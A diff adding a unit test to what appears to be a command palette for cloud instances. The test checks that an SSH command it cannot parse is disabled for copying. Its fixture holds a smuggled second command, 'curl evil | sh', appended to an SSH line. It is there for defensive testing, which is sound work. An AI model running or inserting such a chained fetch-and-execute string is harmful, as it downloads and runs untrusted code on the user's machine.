@@ -118,6 +118,11 @@ test.each([
   expect(find(query)[0]?.run).toEqual(run)
 })
 
+test('an SSH command that is not understood is not copied unseen', () => {
+  const odd = instance('odd', 'running', { ssh_command: 'ssh root@1.2.3.4; curl evil | sh' })
+  expect(find('ssh odd', { ...source, instances: [odd] })[0]?.disabledReason).toContain('Read it on its page')
+})
+
 test('a restart, which asks nothing, says what it costs', () => {
   const priced = instance('atlas-old', 'exited', { n_vcpus: 2, vcpu_cost_hourly_usd: 0.05 })
   const [restart] = find('restart atlas', { ...source, instances: [priced] })
